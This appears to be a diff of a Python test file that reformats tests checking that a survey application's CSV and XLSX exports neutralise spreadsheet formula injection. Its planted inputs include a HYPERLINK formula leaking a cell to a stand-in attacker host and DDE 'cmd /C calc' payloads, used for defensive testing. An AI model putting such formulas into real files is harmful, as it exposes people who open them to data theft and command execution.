@@ -11,24 +11,31 @@ from __future__ import annotations
 import csv
 import dataclasses
 import io
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Callable
 
 import pytest
 
+from swhc_desktop.domain.questionnaire import QuestionType
+from swhc_desktop.domain.records import AnswerValue, BatchKind, NewBatch, NewResponse
 from swhc_desktop.outputs.exports.kinds import EXPORT_KINDS, export
 from swhc_desktop.outputs.exports.safe_cells import FORMULA_STARTS
-from swhc_desktop.domain.questionnaire import QuestionType
 from swhc_desktop.questionnaires.edits import ChangeOption, ChangeQuestion, apply_edit
-from swhc_desktop.domain.records import AnswerValue, BatchKind, NewBatch, NewResponse
 from swhc_desktop.storage import HealthCheckFile
 
 from .support.import_support import new_file, run_cli
 
 # What people might type that a spreadsheet would run (OWASP's CSV injection examples, and their like).
-PLANTED = ('=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")', "+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=3+3", "\r=2+2", "=1+1")
+PLANTED = (
+    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=3+3",
+    "\r=2+2",
+    "=1+1",
+)
 OFFICE = "Which office do you work from?"
 
 
@@ -39,8 +46,14 @@ def infer_export(folder: Path) -> Path:
     writer = csv.writer(buffer)
     writer.writerow(["Timestamp", OFFICE, "How many hours do you work?", "Anything else?"])
     for number in range(24):
-        writer.writerow([f"0{1 + number % 9}/05/2024 10:00:00", PLANTED[number % len(PLANTED)], 30 + number % 9,
-                         PLANTED[(number + 3) % len(PLANTED)]])
+        writer.writerow(
+            [
+                f"0{1 + number % 9}/05/2024 10:00:00",
+                PLANTED[number % len(PLANTED)],
+                30 + number % 9,
+                PLANTED[(number + 3) % len(PLANTED)],
+            ]
+        )
     path.write_text(buffer.getvalue(), encoding="utf-8")
     return path
 
@@ -65,8 +78,9 @@ def planted(tmp_path_factory) -> Path:
             apply_edit(hc, cycle.id, ChangeQuestion(question, after))
         team = hc.questionnaires.load(hc.cycles.by_name("2024").id).question("team")
         for option, text in zip(team.options, PLANTED):
-            apply_edit(hc, hc.cycles.by_name("2024").id,
-                       ChangeOption("team", option, dataclasses.replace(option, label=text)))
+            apply_edit(
+                hc, hc.cycles.by_name("2024").id, ChangeOption("team", option, dataclasses.replace(option, label=text))
+            )
         add_staff_answers_in_planted_teams(hc)
     return path
 
@@ -78,9 +92,16 @@ def add_staff_answers_in_planted_teams(hc: HealthCheckFile) -> None:
     questionnaire = hc.questionnaires.load(cycle.id)
     team = questionnaire.question("team")
     comment = next(q for q in questionnaire.questions() if q.qtype is QuestionType.TEXT)
-    responses = [NewResponse((AnswerValue(team.id, option_id=option.id),
-                              AnswerValue(comment.id, text=PLANTED[(number + index) % len(PLANTED)])))
-                 for index, option in enumerate(team.options[:len(PLANTED)]) for number in range(6)]
+    responses = [
+        NewResponse(
+            (
+                AnswerValue(team.id, option_id=option.id),
+                AnswerValue(comment.id, text=PLANTED[(number + index) % len(PLANTED)]),
+            )
+        )
+        for index, option in enumerate(team.options[: len(PLANTED)])
+        for number in range(6)
+    ]
     hc.responses.add_batch(cycle.id, NewBatch(BatchKind.PAPER, "Paper returns"), responses)
 
 
@@ -120,8 +141,12 @@ def _by(cycle: str) -> str:
 
 
 SPREADSHEET_OUTPUTS: tuple[SpreadsheetOutput, ...] = (
-    *(_export(kind, export_format) for kind in EXPORT_KINDS for export_format in kind.formats
-      if export_format.suffix in (".csv", ".xlsx")),
+    *(
+        _export(kind, export_format)
+        for kind in EXPORT_KINDS
+        for export_format in kind.formats
+        if export_format.suffix in (".csv", ".xlsx")
+    ),
     _command("tables csv", lambda cycle: ["tables"]),
     _command("tables --by csv", lambda cycle: ["tables", "--by", _by(cycle)]),
     _command("questions csv", lambda cycle: ["questions"]),
@@ -133,8 +158,11 @@ def cells_of(made: Path | str) -> list[tuple[str, object]]:
     """Every cell of a CSV text, CSV file or workbook: (where, value); a workbook's formulas as ('formula', text)."""
     if isinstance(made, str) or made.suffix == ".csv":
         text = made if isinstance(made, str) else made.read_text(encoding="utf-8-sig")
-        return [(f"row {r} column {c}", value) for r, row in enumerate(csv.reader(io.StringIO(text, newline="")))
-                for c, value in enumerate(row)]
+        return [
+            (f"row {r} column {c}", value)
+            for r, row in enumerate(csv.reader(io.StringIO(text, newline="")))
+            for c, value in enumerate(row)
+        ]
     from openpyxl import load_workbook
 
     found = []
@@ -181,8 +209,10 @@ def test_the_template_built_from_formula_answers_imports_back_to_the_same_answer
     """The answers offered in the workbook's lists are neutralised, and still import as the options they are."""
     from openpyxl import load_workbook
 
-    made = _export(next(k for k in EXPORT_KINDS if k.what == "template"),
-                   next(f for k in EXPORT_KINDS if k.what == "template" for f in k.formats if f.name == "xlsx"))
+    made = _export(
+        next(k for k in EXPORT_KINDS if k.what == "template"),
+        next(f for k in EXPORT_KINDS if k.what == "template" for f in k.formats if f.name == "xlsx"),
+    )
     workbook_path = made.make(planted, "2025", tmp_path)
     workbook = load_workbook(workbook_path)
     lists = workbook.worksheets[-1]
